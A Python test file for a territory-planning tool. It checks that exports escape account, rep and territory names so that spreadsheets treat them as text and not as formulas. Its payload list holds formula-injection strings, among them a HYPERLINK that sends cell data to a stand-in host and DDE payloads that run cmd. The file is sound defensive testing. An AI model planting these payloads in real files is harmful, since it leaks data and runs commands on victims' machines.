"""Names that a spreadsheet would run as formulas stay text in every export (issue 13, item 5).

Each exporter's file is read back the way a colleague's spreadsheet would see it: a CSV cell
that starts with ``= + - @``, tab or CR must carry the apostrophe OWASP prescribes; an XLSX cell
must be a string cell holding the exact name, never a formula; HTML shows the name as text.
"""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import numpy as np
import openpyxl
import pytest

from planner.model import moves, scenarios
from planner.model.plan import Plan
from planner.model.store import Project
from planner.model.synthetic import grid_project
from tests.clirun import run

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A project whose accounts, territories and reps are named by formula payloads, with a
    scenario that moves the payload accounts (so impact and handover list them)."""
    path = tmp_path / "h.tplan"
    grid_project(path, pins=0).close()
    con = sqlite3.connect(path)
    with con:
        for i, payload in enumerate(PAYLOADS):
            con.execute("UPDATE account SET name = ? WHERE id = ?", (payload, i + 1))
        for table in ("territory", "scenario_territory"):  # names live per scenario since 0003
            if con.execute("SELECT 1 FROM sqlite_master WHERE name = ?", (table,)).fetchone():
                con.execute(f"UPDATE {table} SET name = ? WHERE name = 'T3'", ("=T3()",))
        con.execute("UPDATE rep SET name = ? WHERE name = 'Rep 1'", ("@Rep(1)",))
        con.execute("UPDATE rep SET name = ? WHERE name = 'Rep 3'", ("-Rep 3",))
    con.close()
    with Project.open(path) as p:
        scenarios.create_scenario(p, "East")
        plan = Plan.load(p, "East")
        unit_of = plan.atoms.account_unit[: len(PAYLOADS)]
        plan.apply(moves.for_units(plan, np.unique(unit_of), 2))
    return path


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_csv_neutral(path: Path, names: list[str]) -> None:
    cells = _csv_cells(path)
    for name in names:
        assert "'" + name in cells, name  # present, neutralised
        assert name not in cells, name  # never raw
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r", "＝")), cell


def _assert_xlsx_text(path: Path, names: list[str]) -> None:
    wb = openpyxl.load_workbook(path)  # not read-only: formulas keep their data_type "f"
    texts = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.data_type == "s":
                    texts.add(cell.value)
    for name in names:
        assert name.replace("\r", "\n") in texts, name  # the name as text (XML reads CR as LF)


def test_export_csv_and_xlsx(hostile, tmp_path, capsys) -> None:
    out_csv, out_xlsx = tmp_path / "a.csv", tmp_path / "a.xlsx"
    assert run(capsys, "export", hostile, "--format", "csv", out_csv)[0] == 0
    assert run(capsys, "export", hostile, "--format", "xlsx", out_xlsx)[0] == 0
    _assert_csv_neutral(out_csv, [*PAYLOADS, "=T3()", "@Rep(1)", "-Rep 3"])
    _assert_xlsx_text(out_xlsx, [*PAYLOADS, "=T3()", "@Rep(1)", "-Rep 3"])
    numbers = [r for r in csv.DictReader(out_csv.open(encoding="utf-8-sig"))]
    assert float(numbers[0]["potential"]) > 0  # numbers stay numbers
    units_csv = tmp_path / "u.csv"
    assert run(capsys, "export", hostile, "--format", "csv", "--level", "units", units_csv)[0] == 0
    _assert_csv_neutral(units_csv, ["=T3()"])  # territory names are user text too


def test_impact_xlsx(hostile, tmp_path, capsys) -> None:
    out = tmp_path / "impact.xlsx"
    assert run(capsys, "impact", hostile, "--scenario", "East", "--xlsx", out)[0] == 0
    _assert_xlsx_text(out, [*PAYLOADS, "=T3()", "@Rep(1)", "-Rep 3"])


def test_handover_csv_xlsx_and_html(hostile, tmp_path, capsys) -> None:
    out_csv, out_xlsx, out_html = tmp_path / "t.csv", tmp_path / "t.xlsx", tmp_path / "t.html"
    code, _, _ = run(capsys, "handover", hostile, "--scenario", "East", "--csv", out_csv,
                     "--xlsx", out_xlsx, "--html", out_html)  # fmt: skip
    assert code == 0
    _assert_csv_neutral(out_csv, PAYLOADS)
    _assert_xlsx_text(out_xlsx, PAYLOADS)
    html = out_html.read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click&quot;)" in html
    assert "<a " not in html.lower()


def test_crm_update_files(hostile, tmp_path, capsys) -> None:
    """Owner-change files carry names, territories, reps, user ids and e-mails from the CRM."""
    con = sqlite3.connect(hostile)
    with con:
        con.execute("UPDATE rep SET crm_user_id = '@SUM(1)', email = '=1+1@x.example' "
                    "WHERE name = '-Rep 3'")  # fmt: skip
    con.close()
    outs = {fmt: tmp_path / f"{fmt}.csv" for fmt in ("salesforce", "salesforce-email", "generic")}
    outs["generic-xlsx"] = tmp_path / "generic.xlsx"
    for fmt, out in outs.items():
        code, _, err = run(capsys, "crm-update", hostile, "--scenario", "East", "--format",
                           fmt.removesuffix("-xlsx"), "--out", out)  # fmt: skip
        assert code == 0, err
    _assert_csv_neutral(outs["salesforce"], ["@SUM(1)"])
    _assert_csv_neutral(outs["salesforce-email"], ["=1+1@x.example"])
    texts = [*PAYLOADS, "=T3()", "-Rep 3", "=1+1@x.example", "@SUM(1)"]
    _assert_csv_neutral(outs["generic"], texts)
    _assert_xlsx_text(outs["generic-xlsx"], texts)
